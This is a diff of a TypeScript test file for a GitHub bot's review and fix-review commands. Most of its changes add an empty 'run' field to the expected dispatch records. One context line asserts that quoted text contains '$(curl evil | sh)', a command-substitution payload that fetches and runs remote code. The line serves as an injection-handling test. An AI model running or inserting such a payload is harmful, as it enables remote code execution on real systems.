@@ -50,7 +50,7 @@ describe("/naruto review", () => {
     expect(mission?.task).toContain("Types for users and orders.");
     // The review job checks out naruto/<mission>: it points at the pull request's head.
     expect(await world.github.getRef(`refs/heads/naruto/${id}`)).toBe(world.head);
-    expect(dispatchesOf(id)).toEqual([{ mission: id, phase: "review", items: "[]" }]);
+    expect(dispatchesOf(id)).toEqual([{ mission: id, phase: "review", items: "[]", run: "" }]);
     const tracking = world.comments(world.pull).filter((c) => c.body.startsWith(trackingMarker(id)));
     expect(tracking).toEqual([{ body: expect.stringContaining("arbiter review"), user: BOT }]);
     // No queue pull request: the pull request under review is where the verdict goes.
@@ -163,7 +163,7 @@ describe("/naruto fix-review", () => {
     expect(orders).toContain("> $(curl evil | sh)");
     expect(orders).toContain("> ### Thread 9");
     expect(plan.items[2]?.prompt).not.toContain("push to main");
-    expect(dispatchesOf(id)).toEqual([{ mission: id, phase: "plan", items: "[]" }]);
+    expect(dispatchesOf(id)).toEqual([{ mission: id, phase: "plan", items: "[]", run: "" }]);
     // Only naruto's own refs are new: the queue branch, the state and its index under the pull request; the head branch is untouched.
     expect((await branches()).filter((b) => !branchesBefore.includes(b))).toEqual([`refs/heads/naruto-state/by-issue/${world.pull}/${id}`, `refs/heads/naruto-state/${id}`, `refs/heads/naruto/${id}`]);
     expect(await world.github.getRef("refs/heads/users-api")).toBe(world.head);
@@ -221,7 +221,7 @@ describe("a pull request from a fork", () => {
       source: { issue: world.forkPull, actor: "octo-maintainer" },
     });
     expect(await world.github.getRef(`refs/heads/naruto/${id}`)).toBe(world.forkHead);
-    expect(dispatchesOf(id)).toEqual([{ mission: id, phase: "review", items: "[]" }]);
+    expect(dispatchesOf(id)).toEqual([{ mission: id, phase: "review", items: "[]", run: "" }]);
     // Nothing was written to the fork's side.
     expect(await world.github.getRef("refs/heads/typo")).toBeNull();
   });
